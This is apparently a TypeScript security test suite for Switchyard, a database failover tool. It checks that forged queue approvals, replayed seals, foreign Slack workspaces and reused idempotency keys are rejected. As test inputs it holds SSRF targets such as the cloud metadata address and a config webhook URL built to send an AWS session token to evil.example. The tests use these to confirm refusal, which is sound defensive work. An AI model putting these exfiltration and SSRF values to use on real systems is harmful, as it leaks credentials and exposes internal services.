import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetCommand } from '@aws-sdk/lib-dynamodb';
import type { SQSEvent } from 'aws-lambda';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { handler as approve } from '../../functions/approve-operation/handler.js';
import { handler as getOperation } from '../../functions/get-operation/handler.js';
import { handler as promoteStandby } from '../../functions/promote-standby/handler.js';
import { handler as switchover } from '../../functions/switchover/handler.js';
import { AWS_REQUEST_TIMEOUT_MS, withInvocationSignal } from '../../shared/aws/request-handler.js';
import { PersonSchema } from '../../shared/config/config-schema.js';
import { loadConfig } from '../../shared/config/load-config.js';
import { createDeps } from '../../shared/create-deps.js';
import type { Deps } from '../../shared/deps.js';
import { isUnderPrefix } from '../../shared/domain/allowed-url.js';
import { ConfigError } from '../../shared/domain/errors.js';
import { seal } from '../../shared/queue/internal-message.js';
import { tableClient } from '../../shared/store/table-definition.js';
import { resetSimulator, type TestEnvironment, useTestEnvironment } from '../support/environment.js';
import { loadEvent } from '../support/fixtures.js';
import { httpAnswer, lambdaContext } from '../support/lambda.js';
import { decideOperation, postOperation, settleOperations } from '../support/operations.js';
import { losePrimary, retireOldPrimaries } from '../support/outage.js';
import {
  ADMIN,
  APPROVER,
  OPERATOR,
  repliesTo,
  sendSlashCommand,
  slashCommand,
} from '../support/slack-command.js';

// Who may say what to Switchyard: each finding of the trust-boundary review, as an attacker would try it.

const environment = useTestEnvironment();
let env: TestEnvironment;
let deps: Deps;
beforeAll(async () => {
  env = environment();
  deps = await createDeps(await loadConfig(env.env.SWITCHYARD_CONFIG, async () => '', env.env), {
    env: env.env,
  });
});

beforeEach(async () => {
  // Idle pairs: waiting operations rejected, running ones run to their end.
  await settleOperations(env.store, deps);
  await resetSimulator(env.huawei.url);
  await resetSimulator(env.ocp.url);
  await retireOldPrimaries('ledger-pg');
  await losePrimary(env, 'ledger-pg');
});

const SANDBOX_SIGNING_KEY = 'sandbox-internal-signing-key-0123456789abcdef';
const promotionsSent = () => env.huawei.calls.get('drreplica_to_master') ?? 0;
const operationsOn = async (pair: string) => (await env.store.list({ pair, limit: 100 })).items;

/** One SQS message on a function's queue, as an outside sender (or Switchyard, sealed) would put it there. */
async function deliver(handler: typeof switchover, kind: string, body: unknown) {
  const event = loadEvent<SQSEvent>('sqs', 'switchover');
  const record = event.Records[0] as SQSEvent['Records'][number];
  record.messageId = `msg-${Date.now()}-${Math.random()}`;
  record.eventSourceARN = `arn:aws:sqs:us-east-1:123456789012:switchyard-dev-${kind}`;
  record.body = JSON.stringify(body);
  const answer = (await handler(event as never, lambdaContext())) as { batchItemFailures: unknown[] };
  return answer.batchItemFailures.length === 0 ? 'taken' : 'refused';
}

/** A data-loss promotion of ledger-pg (its primary lost), which waits for two persons. */
async function waitingPromotion(key = 'sandbox-operator-key') {
  const answer = await postOperation(
    promoteStandby,
    'promote-standby',
    { pair: 'ledger-pg', allowDataLoss: true },
    { authorization: `Bearer ${key}` },
  );
  expect(answer.status).toBe(202);
  expect(answer.body.operation.approval.approversNeeded).toBe(2);
  return answer.body.operation.id as string;
}

describe('internal messages are sealed', () => {
  it('refuses forged approvals over SQS: the operation still waits and nothing is sent', async () => {
    const id = await waitingPromotion();
    for (const by of ['alice@example.com', 'bob@example.com'])
      expect(
        await deliver(promoteStandby, 'promote-standby', { decide: 'approve', operationId: id, by }),
      ).toBe('refused');
    expect((await env.store.get(id))?.state).toBe('PENDING_APPROVAL');
    expect((await env.store.get(id))?.approval?.approvals).toEqual([]);
    expect(promotionsSent()).toBe(0);
  });

  it("refuses an outside sender's claims (who asked, an alert, an approval rule, a chat conversation), writing nothing", async () => {
    const before = (await operationsOn('orders-ob')).length;
    const claims = [
      { requestedBy: 'ceo' },
      {
        trigger: {
          decisionId: '01JA0000000000000000000000',
          alertname: 'x',
          fingerprint: 'f',
          startsAt: new Date().toISOString(),
        },
      },
      { approval: { reason: 'none needed', approversNeeded: 1 } },
      { replyTo: { slackResponseUrl: 'http://127.0.0.1:1/internal/admin?token=x' } },
      { source: 'chat' },
    ];
    for (const claim of claims)
      expect(await deliver(switchover, 'switchover', { pair: 'orders-ob', dryRun: true, ...claim })).toBe(
        'refused',
      );
    expect((await operationsOn('orders-ob')).length).toBe(before);
    expect(env.sink.slack.filter((p) => p.path.includes('internal'))).toEqual([]);
  });

  it('refuses a message sealed with another key, or longer ago than its request is remembered; takes one sealed by Switchyard', async () => {
    const id = await waitingPromotion();
    const decision = { decide: 'approve', operationId: id, by: 'adam.approver', person: 'adam' };
    const sealed = (key: string, at: Date) => seal('promote-standby', decision, key, at);
    expect(await deliver(promoteStandby, 'promote-standby', sealed('x'.repeat(44), new Date()))).toBe(
      'refused',
    );
    // Idempotency keys are kept a day (operations.idempotencyTtlSeconds): an older seal could repeat a request.
    const twoDaysAgo = new Date(Date.now() - 2 * 24 * 3600 * 1000);
    expect(await deliver(promoteStandby, 'promote-standby', sealed(SANDBOX_SIGNING_KEY, twoDaysAgo))).toBe(
      'refused',
    );
    expect((await env.store.get(id))?.approval?.approvals).toEqual([]);

    expect(await deliver(promoteStandby, 'promote-standby', sealed(SANDBOX_SIGNING_KEY, new Date()))).toBe(
      'taken',
    );
    expect((await env.store.get(id))?.approval?.approvals).toMatchObject([{ person: 'adam' }]);
  });

  it('refuses a sealed message delivered to the queue of another kind: a captured upgrade is not a promotion', async () => {
    const upgrade = {
      pair: 'ledger-pg',
      reason: 'asked in Slack by olivia.operator',
      requestedBy: 'olivia.operator',
      requestedByPerson: 'olivia',
      source: 'chat',
      idempotencyKey: `slack:${Date.now()}`,
    };
    const captured = seal('upgrade-minor-version', upgrade, SANDBOX_SIGNING_KEY, new Date());
    expect(await deliver(promoteStandby, 'promote-standby', captured)).toBe('refused');
    expect(await env.store.listActive()).toEqual([]);
    expect(promotionsSent()).toBe(0);
  });

  it('still takes a plain request from an outside sender, as the queue that carried it', async () => {
    expect(await deliver(switchover, 'switchover', { pair: 'orders-ob', reason: 'drill' })).toBe('taken');
    const [operation] = await operationsOn('orders-ob');
    expect(operation?.requestedBy).toEqual({
      principal: 'queue:switchyard-dev-switchover',
      channel: 'queue',
    });
  });
});

describe('people, not credentials', () => {
  it('counts one person once, whether they approve by API key or by Slack', async () => {
    const id = await waitingPromotion();
    expect((await decideOperation(approve, id, 'sandbox-approver-key')).status).toBe(200);
    // adam again, now as his Slack user: the command is queued, and the decision refused in the conversation.
    const command = slashCommand(env, APPROVER, `approve ${id}`);
    expect((await sendSlashCommand(command)).status).toBe(200);
    await expect.poll(() => JSON.stringify(repliesTo(env, command))).toContain('adam has already approved');
    expect((await env.store.get(id))?.approval?.approvals).toHaveLength(1);
    expect(promotionsSent()).toBe(0);

    // ada is another person: the promotion goes.
    expect((await decideOperation(approve, id, 'sandbox-admin-key')).body.operation.state).toBe('RUNNING');
  });

  it('refuses a requester who asked through Slack and approves with an API key', async () => {
    const command = slashCommand(env, ADMIN, 'promote ledger-pg --allow-data-loss');
    expect((await sendSlashCommand(command)).status).toBe(200);
    await expect.poll(async () => (await env.store.listActive()).length).toBe(1);
    const [waiting] = await env.store.listActive();
    expect(waiting?.requestedBy.person).toBe('ada');

    const self = await decideOperation(approve, waiting?.id as string, 'sandbox-admin-key');
    expect(self.status).toBe(403);
    expect(self.body.detail).toContain('requester');
    expect((await env.store.get(waiting?.id as string))?.approval?.approvals).toEqual([]);
  });
});

describe('outbound only where it belongs', () => {
  it('refuses a Slack response_url that is not a Slack hooks URL, and posts nothing there', async () => {
    for (const url of [
      'http://169.254.169.254/latest/meta-data',
      'http://10.0.0.5:8080/admin',
      `${env.sink.url}/x`,
    ]) {
      const command = slashCommand(env, OPERATOR, 'switchover orders-ob --dry-run', {
        form: { response_url: url },
      });
      const answer = await sendSlashCommand(command);
      expect(answer.status).toBe(400);
      expect(answer.body.errors).toEqual([{ field: 'body.response_url', message: expect.any(String) }]);
    }
    expect(env.sink.slack.filter((p) => p.path.startsWith('/x'))).toEqual([]);
  });

  it("never shows an operation's response_url to a reader", async () => {
    const command = slashCommand(env, OPERATOR, 'switchover orders-ob');
    expect((await sendSlashCommand(command)).status).toBe(200);
    await expect.poll(async () => (await operationsOn('orders-ob'))[0]?.replyTo).toBeDefined();
    const [operation] = await operationsOn('orders-ob');
    const event = loadEvent('http', 'get-operation') as Parameters<typeof getOperation>[0];
    event.pathParameters = { id: operation?.id as string };
    event.headers.authorization = 'Bearer sandbox-reader-key';
    const answer = httpAnswer(await getOperation(event, lambdaContext()));
    expect(answer.status).toBe(200);
    expect(JSON.stringify(answer.body)).not.toContain(command.responseUrl);
    expect(answer.body.operation.replyTo).toBeUndefined();
  });

  it('refuses a command signed by our app from another workspace', async () => {
    const before = (await operationsOn('orders-ob')).length;
    const answer = await sendSlashCommand(
      slashCommand(env, OPERATOR, 'switchover orders-ob', { form: { team_id: 'T0ELSEWHERE' } }),
    );
    expect(answer.status).toBe(403);
    expect((await operationsOn('orders-ob')).length).toBe(before);
  });
});

describe('idempotency keys belong to their caller', () => {
  it("gives another caller's reused Idempotency-Key nothing of the first caller's operation", async () => {
    const key = { 'idempotency-key': `shared-${Date.now()}` };
    const first = await postOperation(
      switchover,
      'switchover',
      { pair: 'orders-ob' },
      {
        ...key,
        authorization: 'Bearer sandbox-operator-key',
      },
    );
    expect(first.status).toBe(202);
    const other = await postOperation(
      switchover,
      'switchover',
      { pair: 'orders-ob' },
      {
        ...key,
        authorization: 'Bearer sandbox-admin-key',
      },
    );
    expect(other.status).not.toBe(200);
    expect(other.headers['idempotent-replayed']).toBeUndefined();
    // The same caller again is still the same operation.
    const again = await postOperation(
      switchover,
      'switchover',
      { pair: 'orders-ob' },
      {
        ...key,
        authorization: 'Bearer sandbox-operator-key',
      },
    );
    expect(again.status).toBe(200);
    expect(again.body.operation.id).toBe(first.body.operation.id);
  });
});

describe('the config reads only its own variables', () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the config file's own ${VAR} syntax
  it('refuses ${AWS_SESSION_TOKEN} in a config document, naming it', async () => {
    const path = join(tmpdir(), `switchyard-config-${Date.now()}.yaml`);
    await writeFile(
      path,
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the config file's own ${VAR} syntax
      'notifications:\n  webhooks:\n    - name: leak\n      url: "https://evil.example/?t=${AWS_SESSION_TOKEN}"\n      secret: { value: x }\n',
    );
    await expect(
      loadConfig(`file:${path}`, async () => '', { AWS_SESSION_TOKEN: 'secret-token' }),
    ).rejects.toThrow(ConfigError);
    await expect(
      loadConfig(`file:${path}`, async () => '', { AWS_SESSION_TOKEN: 'secret-token' }),
    ).rejects.toThrow(/AWS_SESSION_TOKEN/);
  });
});

describe('AWS calls end with the invocation', () => {
  it('cancels a DynamoDB call that gets no answer when the invocation signal fires', async () => {
    // An endpoint that takes the connection and never answers: a hung service.
    const hung = createServer(() => {});
    await new Promise<void>((resolve) => hung.listen(0, '127.0.0.1', resolve));
    const { port } = hung.address() as AddressInfo;
    const client = tableClient({ endpoint: `http://127.0.0.1:${port}`, region: 'local', maxAttempts: 1 });
    const started = Date.now();
    try {
      const call = withInvocationSignal(AbortSignal.timeout(200), () =>
        client.send(new GetCommand({ TableName: 't', Key: { pk: 'x', sk: 'y' } })),
      );
      await expect(call).rejects.toThrow();
      // Well before the SDK's own request timeout: the invocation's signal ended it.
      expect(Date.now() - started).toBeLessThan(AWS_REQUEST_TIMEOUT_MS);
    } finally {
      hung.closeAllConnections();
      hung.close();
    }
  });
});

describe('the rules of names and URLs', () => {
  it('reads a person however the config spells them as one person', () => {
    expect(PersonSchema.parse('Adam')).toBe(PersonSchema.parse('adam'));
  });

  it('ends an allowed response_url prefix at a path boundary', () => {
    const allowed = ['https://hooks.slack.com/services'];
    expect(isUnderPrefix('https://hooks.slack.com/services/T1/B2/x', allowed)).toBe(true);
    expect(isUnderPrefix('https://hooks.slack.com/servicesX/evil', allowed)).toBe(false);
    expect(isUnderPrefix('https://hooks.slack.com.evil.example/services/x', allowed)).toBe(false);
    expect(isUnderPrefix('https://user@hooks.slack.com/services/x', allowed)).toBe(false);
  });
});
